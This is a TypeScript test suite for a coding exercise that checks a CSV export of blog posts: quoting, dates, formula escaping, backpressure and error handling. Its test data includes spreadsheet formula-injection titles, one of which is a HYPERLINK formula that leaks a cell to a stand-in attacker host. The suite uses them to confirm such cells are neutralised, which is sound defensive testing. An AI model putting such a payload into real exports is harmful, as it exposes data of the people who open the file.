// Exercise 04 · csv: every post as a CSV download. Run it with: npm test -- 04-responses/csv
//
// The suite adds posts whose titles are hard for CSV (commas, quotes, line breaks, formulas) to
// its own database, serves your router under /api on a pool of its own, and reads the file with a
// strict CSV parser, as a spreadsheet or another program would.
import express from 'express';
import { parse } from 'csv-parse/sync';
import { setTimeout as sleep } from 'node:timers/promises';
import type pg from 'pg';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { download, watchServerSide, type ServerSide } from '../../shared/testing/downloads.ts';
import { unansweredSince } from '../../shared/testing/server.ts';
import { fillPosts, scatterPosts } from '../../shared/testing/generated-posts.ts';
import { expectHealthyClientsReturned, expectPostContentNotRead } from '../../shared/testing/export-checks.ts';
import { replaceTableWithView } from '../../shared/testing/table-swap.ts';
import { busyConnectionsOf, lessonHint, startServer, suiteSection, terminateConnectionsOf, useTestDatabase, type LoggedQuery, type StartedServer } from '../../shared/testing/index.ts';
import { csvRouter } from './csv.ts';

const CSV = suiteSection('04-responses', '8. CSV: quoting, dates, formulas');
const ENDINGS = lessonHint('04-responses', '7. When the client leaves, or the database fails half-way');
const HEADER = ['id', 'title', 'status', 'authorId', 'createdAt'];
const POSTS = 200_000;
/** The application_name of your router's pool: how the suite finds its connections in pg_stat_activity. */
const APP = 'csv-under-test';

/** Titles a spreadsheet would run as formulas, and titles that need CSV quoting. */
const FORMULAS = ['=HYPERLINK("http://attacker.test/?leak="&A1,"Click for details")', '+1+1', '-2+3', '@SUM(A1:A9)', '=', "=1+1'"];
const AWKWARD = ['a, b, and c', 'say "hi"', 'line\nbreak', 'crlf\r\ninside', ' leading and trailing spaces ', '', 'naïve – 日本語 😀', '1,000', 'tab\tinside', "it's", 'plain -dash inside', 'a=b'];

const db = useTestDatabase();
let admin: pg.Pool;
let appPool: pg.Pool;
let server: StartedServer;
let csvUrl: string;
let serverSide: ServerSide;

/** What mounting csvRouter(pool) threw, if it did: every test then fails saying so. */
let mountFailure: Error | undefined;

beforeAll(async () => {
  admin = db.pool();
  // 200,000 posts, about 15 MB of CSV: more than loopback's socket buffers hold for a paused reader.
  await fillPosts(admin, POSTS, { leave: FORMULAS.length + AWKWARD.length });
  await admin.query(
    `INSERT INTO "Post" ("title", "content", "status", "authorId", "createdAt")
     SELECT t, 'body', 'published', 1, timestamp '2026-03-01 12:34:56.789' + n * interval '1.001 second'
       FROM unnest($1::text[]) WITH ORDINALITY AS u(t, n)`,
    [[...FORMULAS, ...AWKWARD]],
  );
  await scatterPosts(admin);
  appPool = db.pool({ max: 4, application_name: APP, idleTimeoutMillis: 0 }); // idle clients stay, to be counted
  const app = express();
  serverSide = watchServerSide(app, appPool);
  try {
    app.use('/api', csvRouter(appPool));
  } catch (error) {
    mountFailure = new Error(`csvRouter(pool) must return an express Router; mounting it failed: ${String(error)}. ${CSV}`);
  }
  // A whole export takes seconds on a quiet machine and many more on a busy one: a route counts as
  // stuck when it stops sending, not when the download is long.
  server = await startServer(app, { deadlineFromLastWrite: true });
  csvUrl = `${server.url}/api/export/posts.csv`;
}, 60_000);

beforeEach(() => {
  if (mountFailure) throw mountFailure;
});

afterAll(async () => {
  await server?.close();
});

/** Every post as the CSV should hold it: text cells, createdAt written by Postgres itself. */
async function expectedRows(): Promise<string[][]> {
  const { rows } = await admin.query<{ id: number; title: string; status: string; authorId: number; createdAt: string }>(
    `SELECT "id", "title", "status"::text AS "status", "authorId", to_char("createdAt", 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"') AS "createdAt"
       FROM "Post" ORDER BY "id"`,
  );
  return rows.map((row) => [String(row.id), row.title, row.status, String(row.authorId), row.createdAt]);
}

/** The export, read with a strict parser (RFC 4180 quoting; every record as long as the header). */
async function readCsv(): Promise<{ answer: Awaited<ReturnType<typeof download>>; records: string[][]; queries: LoggedQuery[] }> {
  const { result: answer, queries } = await db.queries.count(() => download(csvUrl, { keep: true }));
  expect(answer.status, `GET /api/export/posts.csv answered ${answer.status}. ${CSV}`).toBe(200);
  expect(answer.complete, `The download was cut off after ${answer.received.toLocaleString('en-US')} bytes. ${CSV}`).toBe(true);
  let records: string[][];
  try {
    records = parse(answer.body, { bom: true, relax_quotes: false, relax_column_count: false }) as string[][];
  } catch (error) {
    throw new Error(`A strict CSV reader cannot read your file: ${(error as Error).message}. Let csv-stringify quote the cells. ${CSV}`);
  }
  return { answer, records, queries };
}

const checkedOut = () => appPool.totalCount - appPool.idleCount;

/** Every client of your pool is given back within a few seconds. */
async function expectPoolSettles(when: string): Promise<void> {
  for (let i = 0; i < 100 && checkedOut() > 0; i += 1) await sleep(50);
  expect(checkedOut(), `${when}, the export kept its pool client: release it in a finally block. ${ENDINGS}`).toBe(0);
}

// Whole downloads, read and checked: on a loaded machine that is work, not a hang (a stuck route is
// cut off after 15 s without a byte, and the failure says so).
describe('CSV export', { timeout: 120_000 }, () => {
  test('a download: text/csv, and Content-Disposition with a .csv file name', async () => {
    const { answer } = await readCsv();
    expect(String(answer.headers['content-type']), `Content-Type should be text/csv. ${CSV}`).toMatch(/^text\/csv\b/);
    expect(
      String(answer.headers['content-disposition']),
      `Content-Disposition should tell the browser to save the file: attachment; filename="posts.csv". ${CSV}`,
    ).toMatch(/^attachment;\s*filename="?[^"]+\.csv"?$/i);
  });

  test('a header line, then every post once, in id order, with only the listed columns', async () => {
    const { records, queries } = await readCsv();
    await expectPoolSettles('After a whole download');
    await expectHealthyClientsReturned(appPool, admin, { what: 'download', hint: ENDINGS });
    await expectPostContentNotRead(admin, queries, { what: 'download', hint: CSV });
    expect(records[0], `The first line names the columns, in this order. Only these: an allow-list keeps content and any later column out. ${CSV}`).toEqual(HEADER);
    const expected = await expectedRows();
    const rows = records.slice(1);
    expect(rows.length, `The file has ${rows.length.toLocaleString('en-US')} posts; the table has ${expected.length.toLocaleString('en-US')}. ${CSV}`).toBe(expected.length);
    const formulaLike = /^[=+\-@]/;
    for (let i = 0; i < expected.length; i += 1) {
      const want = [...expected[i]!];
      if (formulaLike.test(want[1]!)) continue; // the next test checks those
      const row = rows[i]!;
      if (row.some((cell, column) => cell !== want[column])) {
        expect(
          row,
          `Line ${i + 2} is not post ${want[0]} as the table holds it. Titles keep their commas, quotes and line breaks (CSV quoting ` +
            `carries them); createdAt is ISO 8601 in UTC with milliseconds, not epoch milliseconds. ${CSV}`,
        ).toEqual(want);
      }
    }
  });

  test('two downloads at once: each is whole, with nothing shared between the requests', async () => {
    const [first, second] = await Promise.all([readCsv(), readCsv()]);
    const ids = (await expectedRows()).map((row) => row[0]);
    for (const [label, { records }] of [['The first', first], ['The second', second]] as const) {
      expect(
        [records[0], records.slice(1).map((row) => row[0])],
        `${label} of two downloads that ran at the same time: the header line, then every post's id in order. State kept ` +
          `outside the request handler (a client, a flag, a buffer) is shared by every download running at once. ${CSV}`,
      ).toEqual([HEADER, ids]);
    }
    await expectPoolSettles('After two downloads at once');
  });

  test('cells that a spreadsheet would run as formulas are neutralised; others are left as they are', async () => {
    const { records } = await readCsv();
    const titles = new Map(records.slice(1).map((row) => [row[0], row[1]]));
    const expected = await expectedRows();
    const wanted = expected.filter((row) => FORMULAS.includes(row[1]!) || AWKWARD.includes(row[1]!));
    for (const [id, title] of wanted) {
      const safe = /^[=+\-@]/.test(title!) ? `'${title}` : title;
      expect(
        titles.get(id),
        `Post ${id} has the title ${JSON.stringify(title)}. ${/^[=+\-@]/.test(title!) ? 'Starting with =, +, - or @, it is a formula to a spreadsheet: escape_formulas prefixes it with a quote.' : 'It is not a formula: leave it as it is.'} ${CSV}`,
      ).toBe(safe);
    }
  });

  test('a slow reader: the server waits for it instead of queueing the file in the response', async () => {
    let queuedMb = 0;
    const answer = await download(csvUrl, {
      // The reader stops after the first chunk until the server has stopped sending and reading rows.
      afterFirstChunk: async () => {
        queuedMb = (await serverSide.whileWorking()).maxQueuedBytes / 1024 / 1024;
      },
    });
    expect(answer.complete, `The slow download did not end whole (${answer.received.toLocaleString('en-US')} bytes). ${CSV}`).toBe(true);
    expect(
      queuedMb,
      `While the reader was paused, your route queued ${queuedMb.toFixed(1)} MB in the response (res.writableLength) for a reader that ` +
        `was not reading: res.write() returned false and the writing went on. Let pipeline() carry the rows from the cursor to res. ${CSV}`,
    ).toBeLessThan(4);
  });

  test('a query that fails half-way: the download is cut off, never a shorter file that looks whole', async () => {
    const started = Date.now();
    await admin.query(
      `CREATE OR REPLACE FUNCTION public.unreadable_post(id int) RETURNS text LANGUAGE plpgsql VOLATILE AS $$
       BEGIN IF id = 40000 THEN RAISE EXCEPTION 'post % cannot be read (the suite broke it on purpose)', id; END IF; RETURN ''; END $$`,
    );
    const restore = await replaceTableWithView(
      admin,
      'Post',
      // Ordered inside the view, so rows are read (and post 40,000 fails) as the export fetches them.
      `SELECT "id", "title" || public.unreadable_post("id") AS "title", "content", "status", "authorId", "createdAt" FROM "Post_rows" ORDER BY "id"`,
    );
    try {
      const answer = await download(csvUrl);
      expect(
        answer.received,
        `The database failed at post 40,000, and by then your export had sent ${answer.received.toLocaleString('en-US')} bytes: it ` +
          `reads the rows before it sends them. Stream them through pipeline(). ${CSV}`,
      ).toBeGreaterThan(500_000);
      expect(
        answer.complete,
        `The database failed at post 40,000, yet your download ended normally: a CSV that stops early looks like a whole, shorter ` +
          `file. Cut the response off (pipeline() destroys res when a stream fails; .pipe() does not). ${ENDINGS}`,
      ).toBe(false);
      expect(
        unansweredSince(started),
        `The query failed at post 40,000, and your route never noticed: the suite cut the response off itself, after 15 s without ` +
          `a byte. .pipe() does not pass errors along; pipeline() does. ${ENDINGS}`,
      ).toEqual([]);
      await expectPoolSettles('After the query failed');
    } finally {
      await restore();
    }
  });

  test('a client that leaves half-way: the query ends, and its connection goes back to the pool', async () => {
    const left = await download(csvUrl, { leaveAfterBytes: 64 * 1024 });
    expect(left.complete, 'the suite left after 64 kB').toBe(false);
    let last = { busy: -1, checkedOut: -1 };
    for (let i = 0; i < 50; i += 1) {
      last = { busy: (await busyConnectionsOf(admin, APP)).length, checkedOut: checkedOut() };
      if (last.busy === 0 && last.checkedOut === 0) break;
      await sleep(40);
    }
    expect(
      last,
      `The client left after 64 kB; two seconds later your export still had a query running or a pool client out. pipeline() ` +
        `destroys the row stream when res closes early, which closes the cursor; then release the client. ${ENDINGS}`,
    ).toEqual({ busy: 0, checkedOut: 0 });
  });

  test('a connection killed half-way: the download is cut off (or whole), never short or stuck; the next export works', async () => {
    const started = Date.now();
    let killed = 0;
    const answer = await download(csvUrl, {
      keep: true,
      // Killed while the reader is paused and the export waits for it: no read is in flight then,
      // so nothing but the connection's own 'error' event tells the export its connection is gone.
      afterFirstChunk: async () => {
        await serverSide.whileWorking();
        killed = await terminateConnectionsOf(admin, APP);
      },
    });
    expect(killed, `Your export had no database connection open while it waited for the paused reader: it read every row first, or closed its connection (release(true) destroys it). ${CSV}`).toBeGreaterThan(0);
    expect(
      unansweredSince(started),
      `Your export's connection was killed while it waited for the reader, and your route never noticed: the suite cut the response ` +
        `off itself, after 15 s without a byte. A cursor between two reads is not told its connection died; the pool client's 'error' ` +
        `event is. Listen for it while the export runs, and destroy the response when it fires. ${ENDINGS}`,
    ).toEqual([]);
    if (answer.complete) {
      // An export that reads in pages may get a fresh connection for the next page and finish: fine, if it is all there.
      const lines = (parse(answer.body, { bom: true }) as string[][]).length;
      const posts = (await expectedRows()).length;
      expect(
        lines,
        `The export's connection was killed after the first chunk, yet the download ended normally with ${lines - 1} posts of ${posts}: ` +
          `a shorter file that looks whole. Cut the response off instead (pipeline() does, when a stream fails). ${ENDINGS}`,
      ).toBe(posts + 1);
    }
    await expectPoolSettles('After its connection was killed');
    const again = await readCsv();
    expect(again.records.length, `After a killed connection, the next export should work. ${ENDINGS}`).toBeGreaterThan(1);
  });

  test('no posts: the header line alone', async () => {
    const restore = await replaceTableWithView(admin, 'Post', `SELECT * FROM "Post_rows" WHERE false`);
    try {
      const { records } = await readCsv();
      expect(records, `With no posts, the file is its header line. ${CSV}`).toEqual([HEADER]);
    } finally {
      await restore();
    }
  });
});
